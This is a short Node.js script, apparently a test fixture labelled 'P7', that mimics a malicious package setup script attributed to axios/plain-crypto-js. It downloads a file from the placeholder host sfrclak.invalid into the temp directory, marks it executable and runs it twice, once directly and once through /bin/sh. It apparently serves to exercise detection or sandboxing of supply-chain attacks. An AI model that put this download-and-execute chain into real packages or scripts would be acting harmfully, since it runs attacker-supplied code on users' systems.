// P7 in Node, like axios/plain-crypto-js's setup.js (2026): download a platform payload, make it
// executable, start it. The sink answers `{}`, so the spawn only fails to run it.
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const dest = path.join(os.tmpdir(), 'ld.py');
http.get('http://sfrclak.invalid/6202033', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    fs.writeFileSync(dest, Buffer.concat(chunks));
    fs.chmodSync(dest, 0o755);
    spawnSync(dest, [], { stdio: 'ignore' });
    spawnSync('/bin/sh', [dest], { stdio: 'ignore' });
  });
}).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
